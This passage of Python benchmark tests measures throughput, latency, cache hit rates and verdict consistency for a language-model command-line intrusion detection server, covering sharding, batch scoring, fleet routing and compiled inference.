    service = _FixedCostService(batch_cost_s=0.004)
    events = _multi_host_mostly_miss_stream()

    def run_layout(shards):
        # min_shard = max_batch: micro-batches stay whole (splitting a
        # 16-line batch into 4-line slivers wastes encoder batch width),
        # so worker lanes parallelize *across* batches — which only the
        # shard router can produce
        server = DetectionServer(
            service,
            backend=ThreadedBackend(service, workers=4, min_shard=16),
            shards=shards,
            cache_size=0,
            max_batch=16,
            max_latency_ms=10,
        )
        # enough in-flight producers that every shard can fill whole
        # batches (16 x 4 shards = 64 minimum; headroom beyond that)
        started = time.perf_counter()
        results, server = serve_stream(service, events, concurrency=128, server=server)
        return results, server, time.perf_counter() - started

    single_results, _, single_seconds = run_layout(1)
    single_eps = len(single_results) / single_seconds

    (sharded_results, sharded_server, sharded_seconds) = benchmark.pedantic(
        run_layout, args=(4,), rounds=1, iterations=1
    )
    sharded_eps = len(sharded_results) / sharded_seconds
    speedup = sharded_eps / single_eps

    router_metrics = {
        "events": len(events),
        "shards": 4,
        "single_events_per_second": round(single_eps, 1),
        "sharded_events_per_second": round(sharded_eps, 1),
        "speedup": round(speedup, 2),
    }
    benchmark.extra_info.update(router_metrics)
    serving_snapshot["shard_router"] = router_metrics
    print(
        f"\nshard router: {len(events)} events | 1-shard {single_eps:,.0f} ev/s | "
        f"4-shard {sharded_eps:,.0f} ev/s | speedup {speedup:.2f}x"
    )

    assert len(sharded_results) == len(events)
    # same verdicts, just faster
    verdict = lambda rs: [(r.host, r.line, r.is_intrusion) for r in rs]  # noqa: E731
    assert verdict(sharded_results) == verdict(single_results)
    # all four shard pipelines actually carried traffic
    assert all(rt.metrics.events_total > 0 for rt in sharded_server.shards)
    assert speedup >= 1.5, (
        f"4-shard serving must beat single-shard by >=1.5x on a mostly-miss "
        f"multi-host stream, got {speedup:.2f}x"
    )
    bench_regression_gate("shard_router", router_metrics)


class _ColumnarFixedCostService:
    """Fixed-cost service with the *real* columnar tokenizer front end.

    Like :class:`_FixedCostService`, the forward pass is modelled as a
    deterministic sleep — a per-call setup cost plus a per-row cost —
    so the benchmark isolates the serving-plane property under test:
    how many Python-loop/asyncio/micro-batch round trips the serving
    layer spends per scored event.  The tokenizer, however, is the
    actual :class:`ColumnarTokenizer` over a trained BPE, so the
    measured batch path runs the same encode seam production uses.

    Scores are a pure function of the token arrays, so the per-event
    and batch-first paths must produce byte-identical floats.
    """

    threshold = 0.5

    def __init__(self, per_call_s: float = 0.003, per_row_s: float = 0.00002):
        from repro.tokenizer import BPETokenizer, ColumnarTokenizer

        corpus = [f"task --job {i} --node n{i % 7}" for i in range(64)]
        self.tokenizer = BPETokenizer(vocab_size=128, min_pair_frequency=2).train(corpus)
        self._columnar = ColumnarTokenizer(self.tokenizer, max_length=48)
        self.per_call_s = per_call_s
        self.per_row_s = per_row_s
        self.batch_calls = 0

    def preprocess(self, raw: str) -> str | None:
        line = " ".join(raw.split())
        return line or None

    def encode_batch(self, lines):
        return self._columnar.encode(list(lines))

    def score_batch(self, batch):
        self.batch_calls += 1
        time.sleep(self.per_call_s + len(batch) * self.per_row_s)
        return ((batch.lengths * 31 + batch.char_lengths) % 97) / 96.0

    def score_normalized(self, lines):
        return self.score_batch(self.encode_batch(list(lines)))


def _timed_batches(server, events, *, batch_size=1024):
    """Drive *events* through ``submit_many`` in *batch_size* slices.

    Mirrors :func:`_timed_stream`: a warmup slice runs before the clock
    starts, inside one server session.  Returns (results, seconds).
    """

    async def _run():
        async with server:
            await server.submit_many(events[:16])  # warmup
            started = time.perf_counter()
            results = []
            for start in range(0, len(events), batch_size):
                results.extend(await server.submit_many(events[start : start + batch_size]))
            elapsed = time.perf_counter() - started
        return results, elapsed

    return asyncio.run(_run())


def test_bench_serving_columnar_batch_speedup(
    benchmark, serving_snapshot, bench_regression_gate
):
    """Batch-first columnar scoring >= 5x the per-event path, bit for bit.

    Same mostly-miss multi-host stream, same fixed-cost model, same cold
    cache; the only variable is the entry point — per-event ``submit``
    through the micro-batcher vs ``submit_many`` feeding whole columnar
    batches to one deduplicated scoring call.  The per-event path pays
    the per-call setup cost once per micro-batch (a handful of events);
    the batch path amortizes it over the whole slice, which is exactly
    the hot-path overhead the columnar refactor removes.
    """
    events = _multi_host_mostly_miss_stream()

    per_event_service = _ColumnarFixedCostService()
    per_event_server = DetectionServer(
        per_event_service, cache_size=0, max_batch=32, max_latency_ms=10
    )
    per_event_results, per_event_seconds = _timed_stream(per_event_server, events)
    per_event_eps = len(per_event_results) / per_event_seconds

    batch_service = _ColumnarFixedCostService()
    batch_server = DetectionServer(
        batch_service, cache_size=0, max_batch=32, max_latency_ms=10
    )
    batch_results, batch_seconds = benchmark.pedantic(
        _timed_batches, args=(batch_server, events), rounds=1, iterations=1
    )
    batch_eps = len(batch_results) / batch_seconds
    speedup = batch_eps / per_event_eps

    metrics = {
        "events": len(events),
        "per_event_events_per_second": round(per_event_eps, 1),
        "batch_events_per_second": round(batch_eps, 1),
        "speedup": round(speedup, 2),
        "batch_scoring_calls": batch_service.batch_calls,
        "per_event_scoring_calls": per_event_service.batch_calls,
    }
    benchmark.extra_info.update(metrics)
    serving_snapshot["columnar_batch_speedup"] = metrics
    print(
        f"\ncolumnar batch path: {len(events)} events | per-event "
        f"{per_event_eps:,.0f} ev/s ({per_event_service.batch_calls} calls) | "
        f"batch {batch_eps:,.0f} ev/s ({batch_service.batch_calls} calls) | "
        f"speedup {speedup:.1f}x"
    )

    assert len(batch_results) == len(events)
    # the batch path engaged the columnar pipeline for every slice
    assert batch_server.metrics.snapshot()["columnar_batches"] > 0
    # bitwise-equal verdicts: scores are a pure function of the token
    # arrays, so any float deviation means the paths tokenized or
    # composed batches differently
    for a, b in zip(per_event_results, batch_results):
        assert (a.host, a.line) == (b.host, b.line)
        assert a.score == b.score
        assert a.is_intrusion == b.is_intrusion
    assert speedup >= 5.0, (
        f"batch-first columnar scoring must reach >=5x the per-event path on a "
        f"mostly-miss multi-host stream, got {speedup:.2f}x"
    )
    bench_regression_gate("columnar_batch_speedup", metrics)


def test_bench_serving_canonicalize_overhead(benchmark, serving_snapshot, bench_regression_gate):
    """AST canonicalization keeps >= 80% of raw throughput, mostly-miss.

    The same mostly-miss multi-host stream runs with the canonicalize
    stage off (today's pipeline) and on; every event pays a full
    lex+parse+rewrite pass because the cold cache never shortcuts it.
    The stage buys evasion resistance (see the scenario suite); this
    bench bounds what it costs: at most 20% of end-to-end throughput.
    """
    from repro.serving import CanonicalizeConfig

    service = _FixedCostService(batch_cost_s=0.004)
    events = _multi_host_mostly_miss_stream()

    def run(canonicalize):
        server = DetectionServer(
            service,
            cache_size=0,
            max_batch=64,
            max_latency_ms=5,
            canonicalize=CanonicalizeConfig(enabled=True) if canonicalize else None,
        )
        started = time.perf_counter()
        results, server = serve_stream(service, events, concurrency=32, server=server)
        return results, server, time.perf_counter() - started

    off_results, _, off_seconds = run(False)
    off_eps = len(off_results) / off_seconds

    on_results, on_server, on_seconds = benchmark.pedantic(
        run, args=(True,), rounds=1, iterations=1
    )
    on_eps = len(on_results) / on_seconds
    retention = on_eps / off_eps

    metrics = {
        "events": len(events),
        "off_events_per_second": round(off_eps, 1),
        "on_events_per_second": round(on_eps, 1),
        "throughput_retention_rate": round(retention, 4),
        "canonicalize_failures": on_server.metrics.canonicalize_failures,
    }
    benchmark.extra_info.update(metrics)
    serving_snapshot["canonicalize"] = metrics
    print(
        f"\ncanonicalize overhead: {len(events)} events | off {off_eps:,.0f} ev/s | "
        f"on {on_eps:,.0f} ev/s | retention {retention:.2%}"
    )

    assert len(on_results) == len(events)
    # verdicts agree: the bench stream is already canonical, so the
    # stage must be a pure pass-through on it
    verdict = lambda rs: [(r.host, r.line, r.is_intrusion) for r in rs]  # noqa: E731
    assert verdict(on_results) == verdict(off_results)
    assert on_server.metrics.canonicalize_failures == 0
    assert retention >= 0.8, (
        f"canonicalization must keep >=80% of raw throughput on a mostly-miss "
        f"stream, got {retention:.2%} ({off_eps:,.0f} -> {on_eps:,.0f} ev/s)"
    )
    bench_regression_gate("canonicalize", metrics)


def test_bench_serving_zipf_admission_hit_rate(benchmark, serving_snapshot, bench_regression_gate):
    """TinyLFU admission >= plain LRU hit rate on a Zipf-with-scan stream.

    The stream follows the paper's repeat structure: a Zipf-popular hot
    set (most traffic) interleaved with a long tail of one-off lines.
    Under plain LRU the tail continually evicts the hot set from a
    small cache; the frequency gate keeps the hot set resident.
    """
    rng = np.random.default_rng(0)
    hot = rng.zipf(1.3, size=12_000) % 4_000
    tail = rng.integers(100_000, 500_000, size=4_000)
    mixed = np.concatenate([hot, tail])
    rng.shuffle(mixed)
    events = [
        CommandEvent(f"cmd --variant {v}", host=f"host-{i % 32}")
        for i, v in enumerate(mixed)
    ]
    service = _FixedCostService(batch_cost_s=0.0)

    def run_policy(admission):
        server = DetectionServer(
            service,
            cache_size=256,
            cache_admission=admission,
            max_batch=64,
            max_latency_ms=5,
        )
        results, server = serve_stream(service, events, concurrency=16, server=server)
        assert len(results) == len(events)
        return server.metrics.cache_hit_rate

    lru_rate = run_policy("lru")
    tinylfu_rate = benchmark.pedantic(run_policy, args=("tinylfu",), rounds=1, iterations=1)

    admission_metrics = {
        "events": len(events),
        "cache_size": 256,
        "lru_hit_rate": round(lru_rate, 4),
        "tinylfu_hit_rate": round(tinylfu_rate, 4),
    }
    benchmark.extra_info.update(admission_metrics)
    serving_snapshot["zipf_admission"] = admission_metrics
    print(
        f"\nzipf admission: {len(events)} events | lru hit-rate {lru_rate:.2%} | "
        f"tinylfu hit-rate {tinylfu_rate:.2%}"
    )
    assert tinylfu_rate >= lru_rate, (
        f"frequency-aware admission must not lose to plain LRU on a Zipf "
        f"stream: tinylfu {tinylfu_rate:.4f} < lru {lru_rate:.4f}"
    )
    bench_regression_gate("zipf_admission", admission_metrics)


def test_bench_serving_sequence_escalation_overhead(world, benchmark):
    """Sequence escalation pays its second stage only on flagged events.

    A mostly-benign stream (by construction: lines the service itself
    scores below threshold, plus a handful of flagged ones) runs through
    mode='count' and mode='sequence' servers.  The sequence pass may
    only invoke the multi-line head once per alert — never for benign
    traffic — so its throughput stays within a bounded factor of the
    count-mode baseline.
    """
    service = _build_service(world)
    # reuse the stage-1 head as the sequence head: same geometry, zero
    # extra training — the bench measures serving overhead, not accuracy
    service.attach_multiline(service.tuner)

    normalized = [service.preprocess(line) for line in world.test_lines_dedup]
    normalized = [line for line in normalized if line is not None]
    scores = service.score_normalized(normalized)
    benign = [l for l, s in zip(normalized, scores) if s < service.threshold][:UNIQUE_LINES]
    flagged = [l for l, s in zip(normalized, scores) if s >= service.threshold][:5]
    assert benign and flagged, "world must provide both benign and flagged lines"
    mixed = benign + flagged
    order = np.random.default_rng(0).permutation(len(mixed))
    events = [
        CommandEvent(mixed[int(i)], host=f"h{int(i) % 8}", timestamp=float(position))
        for position, i in enumerate(order)
    ]

    count_server = DetectionServer(service, cache_size=0, max_batch=32, max_latency_ms=25)
    count_results, count_seconds = _timed_stream(count_server, events)
    count_eps = len(count_results) / count_seconds

    seq_server = DetectionServer(
        service,
        cache_size=0,
        max_batch=32,
        max_latency_ms=25,
        session=SessionConfig(mode="sequence"),
    )
    seq_results, seq_seconds = benchmark.pedantic(
        _timed_stream, args=(seq_server, events), rounds=1, iterations=1
    )
    seq_eps = len(seq_results) / seq_seconds
    overhead = count_eps / seq_eps if seq_eps else float("inf")

    benchmark.extra_info.update(
        {
            "events": len(events),
            "flagged": seq_server.metrics.alerts,
            "count_events_per_second": round(count_eps, 1),
            "sequence_events_per_second": round(seq_eps, 1),
            "sequence_scored": seq_server.metrics.sequence_scored,
            "overhead_factor": round(overhead, 2),
        }
    )
    print(
        f"\nsequence escalation: {len(events)} events | count {count_eps:,.0f} ev/s | "
        f"sequence {seq_eps:,.0f} ev/s | {seq_server.metrics.sequence_scored} "
        f"second-stage passes for {seq_server.metrics.alerts} alerts"
    )

    # stage-1 verdicts are identical across modes
    assert sum(r.is_intrusion for r in seq_results) == sum(
        r.is_intrusion for r in count_results
    )
    # the second stage ran exactly once per flagged event, never for benign
    assert seq_server.metrics.sequence_scored == seq_server.metrics.alerts
    assert seq_server.metrics.alerts < seq_server.metrics.events_total * 0.25
    assert count_server.metrics.sequence_scored == 0
    # bounded overhead on a mostly-benign stream: the sequence pass keeps
    # at least half the count-mode throughput
    assert seq_eps >= 0.5 * count_eps, (
        f"sequence-mode overhead too high: {count_eps:,.0f} -> {seq_eps:,.0f} ev/s "
        f"({overhead:.2f}x)"
    )


def test_bench_serving_fleet_throughput(benchmark, serving_snapshot, bench_regression_gate):
    """Two-node fleet over real localhost TCP: throughput + merged tails.

    The fleet router consistent-hashes hosts across two
    :class:`FleetNode` s, each wrapping its own server, and every event
    crosses a real socket twice (frame out, ack back).  The recorded
    numbers are the fleet's end-to-end events/sec and the p50/p99 of the
    **merged** latency reservoirs — the same control-plane aggregation
    ``fleet-admin status`` reports — so the snapshot captures what the
    wire and the ring cost on top of a single in-process server.
    """
    from repro.fleet import FleetConfig, FleetNode, FleetRouter

    service = _FixedCostService(batch_cost_s=0.001)
    events = _multi_host_mostly_miss_stream(n_events=2048, hosts=64)
    n_nodes = 2

    async def run_fleet():
        nodes = []
        for _ in range(n_nodes):
            server = DetectionServer(
                service, max_batch=64, max_latency_ms=5, cache_size=0
            )
            node = FleetNode(server, port=0)
            await node.start()
            nodes.append(node)
        config = FleetConfig(
            nodes=tuple(node.address for node in nodes),
            batch_max_events=64,
            batch_max_latency_ms=5.0,
            max_inflight_batches=4,
        )
        started = time.perf_counter()
        async with FleetRouter(config, heartbeats=False) as router:
            await router.submit_many(events)
            await router.drain()
            seconds = time.perf_counter() - started
            merged = await router.merged_metrics()
            stats = router.stats()
        per_node_events = [node.events_ingested for node in nodes]
        for node in nodes:
            await node.stop()
        return merged, stats, per_node_events, seconds

    merged, stats, per_node_events, seconds = benchmark.pedantic(
        lambda: asyncio.run(run_fleet()), rounds=1, iterations=1
    )
    fleet_eps = len(events) / seconds

    fleet_metrics = {
        "events": len(events),
        "nodes": n_nodes,
        "fleet_events_per_second": round(fleet_eps, 1),
        "latency_p50_ms": round(merged.latency_percentile(50), 3),
        "latency_p99_ms": round(merged.latency_percentile(99), 3),
    }
    benchmark.extra_info.update(fleet_metrics)
    serving_snapshot["fleet"] = fleet_metrics
    print(
        f"\nfleet: {len(events)} events over {n_nodes} TCP nodes | "
        f"{fleet_eps:,.0f} ev/s | p50 {fleet_metrics['latency_p50_ms']}ms | "
        f"p99 {fleet_metrics['latency_p99_ms']}ms"
    )

    # exact accounting: the merged totals are the stream, nothing dropped
    assert merged.events_total == len(events)
    assert sum(per_node_events) == len(events)
    assert stats["orphaned_events"] == 0
    assert stats["nodes_evicted"] == 0
    assert stats["batches_nacked"] == 0
    # the ring actually spread hosts: both nodes carried real traffic
    assert all(count > 0 for count in per_node_events)
    assert merged.latency_percentile(99) >= merged.latency_percentile(50) > 0
    bench_regression_gate("fleet", fleet_metrics)


def test_bench_serving_compiled_inference(world, benchmark, serving_snapshot, bench_regression_gate):
    """Compiled inference plan >=3x tape model-forward throughput.

    A mostly-miss multi-host stream is the workload where the model
    forward dominates (every distinct line pays one), so the ratio
    isolates exactly what :class:`~repro.nn.inference.InferencePlan`
    buys over the autograd-tape path.

    The >=3x gate runs at ``precision="float32"``, not float64.  The
    tape's GELU computes ``x ** 3`` through libm's scalar ``pow`` —
    ~60ns/element on this substrate vs ~1.5ns for SIMD multiply — and
    glibc's ``pow`` is 0.52-ulp-bounded but *not* correctly rounded, so
    no cheaper cube reproduces its bits.  float64 therefore keeps the
    ``pow`` call (bitwise parity is its contract, asserted below) and
    its speedup is capped by that shared scalar wall; float32 swaps in
    the multiply-chain cube and realizes the full compiled win at a
    ~1e-7 score tolerance with identical verdicts.
    """
    service = _build_service(world)
    raw = world.test_lines_dedup[: UNIQUE_LINES * 3]
    lines = [line for line in (service.preprocess(r) for r in raw) if line]

    def throughput(tag):
        service.score_normalized(lines[:64])  # warm: scratch, tokenizer
        started = time.perf_counter()
        scores = np.asarray(service.score_normalized(lines))
        seconds = time.perf_counter() - started
        return scores, len(lines) / seconds

    tape_scores, tape_eps = throughput("tape")

    assert service.compile_inference(precision="float64") is True
    f64_scores, f64_eps = throughput("float64")
    # the float64 contract: same bits, not just same verdicts
    assert np.array_equal(f64_scores, tape_scores)

    service.reset_inference()
    assert service.compile_inference(precision="float32") is True
    f32_scores, f32_eps = benchmark.pedantic(
        throughput, args=("float32",), rounds=1, iterations=1
    )
    max_diff = float(np.abs(f32_scores - tape_scores).max())
    assert max_diff < 1e-4
    assert np.array_equal(
        f32_scores >= service.threshold, tape_scores >= service.threshold
    )

    speedup_f32 = f32_eps / tape_eps
    speedup_f64 = f64_eps / tape_eps
    inference_metrics = {
        "events": len(lines),
        "tape_events_per_second": round(tape_eps, 1),
        "float64_events_per_second": round(f64_eps, 1),
        "float32_events_per_second": round(f32_eps, 1),
        "speedup": round(speedup_f32, 2),
        "float64_bitwise": True,
        "float32_max_score_diff": max_diff,
    }
    benchmark.extra_info.update(inference_metrics)
    serving_snapshot["inference"] = inference_metrics
    print(
        f"\ncompiled inference: {len(lines)} lines | tape {tape_eps:,.0f} ev/s | "
        f"f64 {f64_eps:,.0f} ev/s (bitwise, {speedup_f64:.2f}x) | "
        f"f32 {f32_eps:,.0f} ev/s ({speedup_f32:.2f}x)"
    )

    # float64 must never be meaningfully slower than the tape it
    # replaces (loose floor: its win is graph elision, not the
    # pow-bound arithmetic, and single-pass timing is noisy)
    assert speedup_f64 >= 0.8, f"float64 plan slower than tape: {speedup_f64:.2f}x"
    assert speedup_f32 >= 3.0, (
        f"compiled float32 plan must beat the Tensor tape by >=3x on a "
        f"mostly-miss stream, got {speedup_f32:.2f}x"
    )
    bench_regression_gate("inference", inference_metrics)
