"""Benchmark: streaming throughput with the score cache cold vs. warm.

Real command telemetry is repeat-heavy (the SCADE observation the
serving cache is built on), so we stream a repeat-heavy event mix twice
through one server: the first pass pays tokenize+forward for every
distinct line (cold), the second is served almost entirely from the LRU
cache (warm).  The warm pass must be at least 2× faster.
"""

import time

import numpy as np

from repro.experiments.methods import HEAD_EPOCHS, HEAD_LR, training_subset
from repro.ids import IntrusionDetectionService
from repro.serving import DetectionServer, serve_stream
from repro.tuning import ClassificationTuner

UNIQUE_LINES = 150
REPEATS = 8


def _build_service(world) -> IntrusionDetectionService:
    subset = training_subset(world, seed=0)
    tuner = ClassificationTuner(
        world.encoder, lr=HEAD_LR, epochs=HEAD_EPOCHS, pooling="mean", seed=0
    )
    tuner.fit(subset.lines, subset.labels)
    return IntrusionDetectionService.from_tuner(tuner, threshold=0.5)


def _repeat_heavy_stream(world) -> list[str]:
    unique = world.test_lines_dedup[:UNIQUE_LINES]
    stream = unique * REPEATS
    return [stream[i] for i in np.random.default_rng(0).permutation(len(stream))]


def test_bench_serving_cold_vs_warm(world, benchmark):
    service = _build_service(world)
    events = _repeat_heavy_stream(world)
    server = DetectionServer(service, max_batch=32, max_latency_ms=25, cache_size=8192)

    started = time.perf_counter()
    cold_results, _ = serve_stream(service, events, concurrency=8, server=server)
    cold_seconds = time.perf_counter() - started
    cold_eps = len(cold_results) / cold_seconds

    # same stream again on the same server: every line is now cached
    warm_results, _ = benchmark.pedantic(
        serve_stream,
        args=(service, events),
        kwargs={"concurrency": 8, "server": server},
        rounds=1,
        iterations=1,
    )
    warm_seconds = benchmark.stats.stats.mean
    warm_eps = len(warm_results) / warm_seconds

    snapshot = server.metrics.snapshot()
    benchmark.extra_info.update(
        {
            "events": len(events),
            "cold_events_per_second": round(cold_eps, 1),
            "warm_events_per_second": round(warm_eps, 1),
            "speedup": round(warm_eps / cold_eps, 2),
            "cache_hit_rate": snapshot["cache_hit_rate"],
            "mean_batch_size": snapshot["mean_batch_size"],
            "latency_p99_ms": snapshot["latency_p99_ms"],
        }
    )
    print(
        f"\nserving: {len(events)} events | cold {cold_eps:,.0f} ev/s | "
        f"warm {warm_eps:,.0f} ev/s | speedup {warm_eps / cold_eps:.1f}x | "
        f"hit-rate {snapshot['cache_hit_rate']:.2%}"
    )

    assert len(warm_results) == len(events)
    # intra-stream repeats already make the cold pass partially cached;
    # the fully-warm pass must still be at least 2× faster end to end.
    assert warm_eps >= 2.0 * cold_eps
    # the warm pass added no misses — all its events were cache hits
    assert all(result.cache_hit for result in warm_results)
