"""Benchmark: the Section-VI comparison against profile-based prior work."""

import math

from repro.experiments.baselines import run_baseline_comparison


def test_bench_baselines(world, benchmark):
    result = benchmark.pedantic(
        run_baseline_comparison, args=(world,), kwargs={"seed": 0}, rounds=1, iterations=1
    )
    print("\n" + result.render())
    benchmark.extra_info.update({k: v for k, v in result.overall.items()})
    ours = result.overall["LM classification (ours)"]
    priors = [v for k, v in result.overall.items() if k != "LM classification (ours)"]
    # Shape check (Sec. VI): the LM method out-ranks every profile baseline.
    assert not math.isnan(ours)
    assert all(ours >= p - 0.05 for p in priors)
