"""Benchmark: the intro's weekly continual-learning claim."""

from conftest import bench_world_config

from repro.experiments.continual import run_continual


def test_bench_continual(benchmark):
    # Builds its own two-model world (frozen vs updated), so it does not
    # share the session world fixture.
    result = benchmark.pedantic(
        run_continual, args=(bench_world_config(),), kwargs={"seed": 0}, rounds=1, iterations=1
    )
    print("\n" + result.render())
    benchmark.extra_info["mean_gain"] = result.mean_gain
    # The weekly update must not hurt detection of the emerging family;
    # it either lifts a previously-missed variant decisively or confirms
    # full coverage (when the frozen model already generalised to the
    # family from its attack-pattern neighbours).
    assert result.mean_gain > -0.05
    lifts = [u - f for f, u in zip(result.frozen_scores, result.continual_scores)]
    assert max(lifts) > 0.1 or min(result.continual_scores) > 0.9
